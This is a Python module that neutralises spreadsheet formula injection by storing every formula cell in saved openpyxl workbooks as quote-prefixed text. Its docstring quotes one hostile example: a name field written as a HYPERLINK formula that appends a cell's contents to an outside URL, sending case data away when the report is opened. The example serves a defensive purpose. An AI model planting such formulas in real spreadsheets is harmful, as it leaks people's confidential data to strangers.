"""Every workbook docgen writes is saved here, so that text from a form stays text and is never run as a formula.

openpyxl stores any string starting with ``=`` as a formula. A key worker named ``=HYPERLINK("http://…?"&B2,…)``
would then send a case's cells to a stranger the moment a manager opened the report. docgen writes no formulas
of its own into cells (its highlights are conditional formats), so every formula cell at save time came from
someone's text: it is stored as a string and marked with Excel's quote prefix, which keeps it text when edited.
"""

from __future__ import annotations

from pathlib import Path
from typing import IO, Any

__all__ = ["as_text", "save_workbook"]


def as_text(cell: Any) -> None:
    """Makes an openpyxl cell holding a formula hold the same characters as text."""
    if cell.data_type == "f" and isinstance(cell.value, str):
        cell.data_type = "s"
        cell.quotePrefix = True


def save_workbook(workbook: Any, target: Path | str | IO[bytes]) -> None:
    """Saves an openpyxl workbook with every cell's text as text (see the module's note)."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                as_text(cell)
    workbook.save(target)
